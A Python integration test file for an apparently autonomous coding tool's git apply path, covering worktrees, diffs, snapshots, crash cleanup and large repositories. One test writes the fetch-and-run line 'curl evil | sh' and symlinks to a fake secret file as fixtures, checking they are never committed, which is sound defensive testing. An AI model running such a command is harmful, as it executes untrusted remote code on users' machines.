"""The governed apply path on real repositories: attempt worktrees, the three intake
forms, the gate, snapshot commits and tags, crash leftovers — and the user's checkout
untouched throughout."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from autopack.domain.errors import Conflict
from autopack.settings import Settings
from autopack.supervisor.service import Supervisor
from autopack.vcs.git import Git
from autopack.vcs.workspace import Worktrees
from tests.gitutil import fingerprint, git, make_repo, tree_of
from tests.integration.helpers import table_rows
from tests.integration.vcs_fixtures import Project

DIFF = b"""diff --git a/src/app.py b/src/app.py
--- a/src/app.py
+++ b/src/app.py
@@ -1,2 +1,5 @@
 def add(a, b):
     return a + b
+
+def sub(a, b):
+    return a - b
"""


def test_run_start_creates_the_integration_branch_at_mains_tip(project: Project) -> None:
    project.start()
    main = git(project.repo, "rev-parse", "main")
    assert project.integration_tip() == main
    assert project.sup.get_run("run-1").run.base_commit == main
    status = project.sup.apply.status("run-1")
    assert status is not None
    assert (status.exists, status.commit_count, status.ahead_of_main, status.behind_main) == (
        True, 0, 0, 0)
    project.assert_untouched()


def test_a_diff_is_gated_and_snapshotted_with_trailers_tag_and_issue_file(
    project: Project,
) -> None:
    project.start()
    base = project.integration_tip()
    with project.sup.apply.attempt("run-1", "P1") as attempt:
        assert not attempt.path.is_relative_to(project.repo)
        attempt.apply_diff(DIFF)
        change = project.sup.apply.gate("run-1", "P1", attempt)
        worktree = attempt.path
    assert not worktree.exists()
    assert [f.path for f in change.files] == ["src/app.py"]
    snap = project.sup.apply.snapshot("run-1", "P1", attempt.number, tokens=1234)
    tip = project.integration_tip()
    assert snap.commit == tip and snap.created
    assert git(project.repo, "rev-parse", "refs/tags/autopack/snapshots/run-1/00-P1") == tip
    assert git(project.repo, "rev-parse", f"{tip}^") == base
    message = git(project.repo, "show", "-s", "--format=%B", tip)
    assert "Autopack-Run: run-1" in message and "Autopack-Phase: P1" in message
    assert "Autopack-Tokens: 1234" in message
    assert git(project.repo, "show", "-s", "--format=%an <%ae>", tip) == (
        "Autopack <autopack@localhost>")
    issue_file = ".autonomous_runs/run-1/issues/phase_00_P1_issues.json"
    document = json.loads(git(project.repo, "show", f"{tip}:{issue_file}"))
    assert document["phase_id"] == "P1" and document["issues"] == []
    assert "def sub" in git(project.repo, "show", f"{tip}:src/app.py")
    assert git(project.repo, "branch", "--list", "autopack/scratch/*") == ""
    attempts = table_rows(project.sup.settings.database_url, "attempts")
    assert [(a["number"], a["gate_status"]) for a in attempts] == [(1, "passed")]
    assert b"def sub" in attempts[0]["diff"]  # type: ignore[operator]
    snapshots = table_rows(project.sup.settings.database_url, "snapshots")
    assert [(s["phase_id"], s["commit"]) for s in snapshots] == [("P1", tip)]
    project.assert_untouched()


def test_snapshot_twice_or_after_a_crash_never_commits_again(project: Project) -> None:
    project.start()
    with project.sup.apply.attempt("run-1", "P1") as attempt:
        attempt.apply_diff(DIFF)
        project.sup.apply.gate("run-1", "P1", attempt)
    first = project.sup.apply.snapshot("run-1", "P1", 1, tokens=5)
    again = project.sup.apply.snapshot("run-1", "P1", 1, tokens=5)
    assert (again.commit, again.created) == (first.commit, False)
    # A crash after the branch moved but before the tag was written.
    git(project.repo, "tag", "-d", "autopack/snapshots/run-1/00-P1")
    resumed = project.sup.apply.snapshot("run-1", "P1", 1, tokens=5)
    assert (resumed.commit, resumed.created) == (first.commit, False)
    assert project.integration_tip() == first.commit
    assert git(project.repo, "rev-list", "--count",
               "main..autopack/integration/run-1") == "1"
    assert len(table_rows(project.sup.settings.database_url, "snapshots")) == 1
    project.assert_untouched()


def test_run_summaries_are_committed_once_and_never_through_symlinks(
        project: Project, tmp_path: Path) -> None:
    project.start()
    folder = project.sup.settings.runs_dir / "run-1"
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.txt").write_text("do not commit")
    (folder / "tiers" / "evil.md").symlink_to(secret / "key.txt")
    (folder / "linked").symlink_to(secret, target_is_directory=True)
    (folder / "logs" / "P1").mkdir(parents=True)
    (folder / "logs" / "P1" / "builder.log").write_text("local only")
    # a file a command dropped into the live folder is not a view: it was committed
    (folder / "tiers" / "install.sh").write_text("curl evil | sh\n")
    commit = project.sup.apply.commit_summaries("run-1", project.sup.rendered("run-1"))
    assert commit is not None and project.integration_tip() == commit
    files = git(project.repo, "ls-tree", "-r", "--name-only", commit).split()
    assert ".autonomous_runs/run-1/run_summary.json" in files
    assert not [f for f in files if "evil" in f or "linked" in f or "/logs/" in f
                or "install.sh" in f]
    # what is committed is exactly what regenerate writes
    project.sup.regenerate("run-1")
    for name in files:
        if name.startswith(".autonomous_runs/run-1/"):
            written = project.sup.settings.runs_dir / name.removeprefix(".autonomous_runs/")
            assert git(project.repo, "show", f"{commit}:{name}") == written.read_text().strip()
    # a repeat (a crash after the commit, a resume of a finished run) commits nothing
    assert project.sup.apply.commit_summaries("run-1", project.sup.rendered("run-1")) is None
    assert project.integration_tip() == commit
    assert git(project.repo, "log", "-1", "--format=%(trailers:key=Autopack-Summary)",
               commit).strip() == "Autopack-Summary: final"
    project.assert_untouched()


def test_three_intake_forms_give_the_same_canonical_diff(project: Project) -> None:
    """New, deleted, renamed and mode-changed files, as a diff, in place, and as contents."""
    project.start(phases=(3,))
    app = (project.repo / "src/app.py").read_bytes()
    in_place = {}
    with project.sup.apply.attempt("run-1", "P1") as attempt:
        root = attempt.path
        (root / "src/new.py").write_text("NEW = 1\n")
        (root / "src/util.py").unlink()
        (root / "tests/test_app.py").rename(root / "tests/test_main.py")
        (root / "src/app.py").chmod(0o755)
        in_place = project.sup.apply.gate("run-1", "P1", attempt)
    with project.sup.apply.attempt("run-1", "P2") as attempt:
        attempt.apply_diff(in_place.diff)
        as_diff = project.sup.apply.gate("run-1", "P2", attempt)
    with project.sup.apply.attempt("run-1", "P3") as attempt:
        test_app = (attempt.path / "tests/test_app.py").read_bytes()
        attempt.write_files({"src/new.py": b"NEW = 1\n", "src/util.py": None,
                             "tests/test_app.py": None, "tests/test_main.py": test_app})
        (attempt.path / "src/app.py").chmod(0o755)
        as_files = project.sup.apply.gate("run-1", "P3", attempt)
    assert in_place.diff == as_diff.diff == as_files.diff
    statuses = {f.path: f.status for f in in_place.files}
    assert statuses == {"src/app.py": "M", "src/new.py": "A", "src/util.py": "D",
                        "tests/test_main.py": "R"}
    assert b"old mode 100644\nnew mode 100755" in in_place.diff
    assert app == (project.repo / "src/app.py").read_bytes()
    project.assert_untouched()


def test_a_diff_that_does_not_apply_cleanly_falls_back_to_three_way(project: Project) -> None:
    project.start()
    with project.sup.apply.attempt("run-1", "P1") as attempt:
        attempt.write_files({"src/app.py": b"# header\n\n" + (project.repo / "src/app.py")
                             .read_bytes()})
        project.sup.apply.gate("run-1", "P1", attempt)
    project.sup.apply.snapshot("run-1", "P1", 1, tokens=0)
    # A diff made against main: its hunk is anchored at line 1, which moved.
    old = git(project.repo, "rev-parse", "main:src/app.py")
    new = git(project.repo, "hash-object", "--stdin",
              input=(project.repo / "src/app.py").read_bytes() + b"\ndef sub(a, b):\n"
              b"    return a - b\n")
    stale = DIFF.replace(b"--- a/", f"index {old}..{new} 100644\n--- a/".encode(), 1)
    with project.sup.apply.attempt("run-1", "P2") as attempt:
        attempt.apply_diff(stale)
        merged = (attempt.path / "src/app.py").read_text()
    assert merged.startswith("# header") and "def sub" in merged
    project.assert_untouched()


def test_a_patch_that_cannot_apply_is_refused_with_gits_reason(project: Project) -> None:
    from autopack.vcs.workspace import PatchDoesNotApply

    project.start()
    broken = DIFF.replace(b" def add(a, b):", b" def mul(a, b):")
    with pytest.raises(PatchDoesNotApply, match="does not apply"), \
            project.sup.apply.attempt("run-1", "P1") as attempt:
        attempt.apply_diff(broken)
    assert project.integration_tip() == git(project.repo, "rev-parse", "main")
    project.assert_untouched()


def test_snapshot_refuses_when_the_branch_moved_under_the_attempt(project: Project) -> None:
    project.start()
    with project.sup.apply.attempt("run-1", "P1") as attempt:
        attempt.apply_diff(DIFF)
        project.sup.apply.gate("run-1", "P1", attempt)
    with project.sup.apply.attempt("run-1", "P2") as attempt:
        attempt.write_files({"README.md": b"changed\n"})
        project.sup.apply.gate("run-1", "P2", attempt)
    project.sup.apply.snapshot("run-1", "P2", 1, tokens=0)
    with pytest.raises(Conflict, match="not at"):
        project.sup.apply.snapshot("run-1", "P1", 1, tokens=0)
    assert git(project.repo, "tag", "--list", "autopack/snapshots/run-1/00-P1") == ""
    project.assert_untouched()


def test_a_data_dir_inside_the_working_tree_is_refused(project: Project) -> None:
    from autopack.domain.errors import ConfigError

    project.sup.apply.settings.data_dir = project.repo / ".autopack-data"
    with pytest.raises(ConfigError, match=r"AUTOPACK_DATA_DIR.*inside the working tree"):
        project.start()
    assert git(project.repo, "branch", "--list", "autopack/*") == ""
    assert project.sup.list_runs() == []
    project.assert_untouched()


CRASHER = """
import os, sys
from pathlib import Path
from autopack.vcs.git import Git
from autopack.vcs.workspace import Worktrees
repo, data, base = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
attempt = Worktrees(Git(repo), data).open("run-1", "P1", 1, base)
(attempt.path / "half-done.txt").write_text("x")
print(attempt.path, flush=True)
os._exit(9)  # die holding the worktree, as a killed process would
"""


def test_worktrees_left_by_a_crash_are_cleaned_on_the_next_start(project: Project) -> None:
    project.start()
    data = project.sup.settings.data_dir
    base = project.integration_tip()
    done = subprocess.run([sys.executable, "-c", CRASHER, str(project.repo), str(data), base],
                          capture_output=True, text=True, check=False)
    left = Path(done.stdout.strip())
    assert done.returncode == 9 and left.is_dir()
    assert git(project.repo, "branch", "--list", "autopack/scratch/*") != ""
    live = Worktrees(Git(project.repo), data).open("run-1", "P2", 1, base)
    try:
        project.start("run-2")  # the next start cleans what dead processes left
        assert not left.exists()
        assert live.path.is_dir(), "a live attempt is never cleaned"
        assert git(project.repo, "branch", "--list", "autopack/scratch/run-1/P1/*") == ""
        assert str(left) not in git(project.repo, "worktree", "list")
    finally:
        live.close()
    assert git(project.repo, "branch", "--list", "autopack/scratch/*") == ""
    assert not os.listdir(data / "worktrees" / next(iter(os.listdir(data / "worktrees")))
                          / "run-1")
    project.assert_untouched()


def test_snapshot_on_a_ten_thousand_file_repository(sqlite_url: str, tmp_path: Path) -> None:
    """Git's part scales with the change, not the repository (one DB is enough here)."""
    settings = Settings(database_url=sqlite_url, runs_dir=tmp_path / "runs",
                        data_dir=tmp_path / "data")
    files = {f"pkg{i // 100:03d}/mod{i % 100:03d}.py": f"V = {i}\n" for i in range(10_000)}
    repo = make_repo(tmp_path / "big" / "project", files)
    sup = Supervisor(settings)
    sup.start()
    try:
        proj = Project(repo, sup, fingerprint(repo), set())
        proj.start(scope=["pkg042/"])
        with sup.apply.attempt("run-1", "P1") as attempt:
            attempt.write_files({"pkg042/mod007.py": b"V = -1\n", "pkg042/extra.py": b"E = 2\n"})
            sup.apply.gate("run-1", "P1", attempt)
        sup.apply.snapshot("run-1", "P1", 1, tokens=10)
        tip = proj.integration_tip()
        tree = tree_of(repo, tip)
        assert len(tree) == 10_002  # + the new module + the phase's issue file
        assert git(repo, "show", f"{tip}:pkg042/mod007.py") == "V = -1"
        assert fingerprint(repo) == proj.before
    finally:
        sup.close()
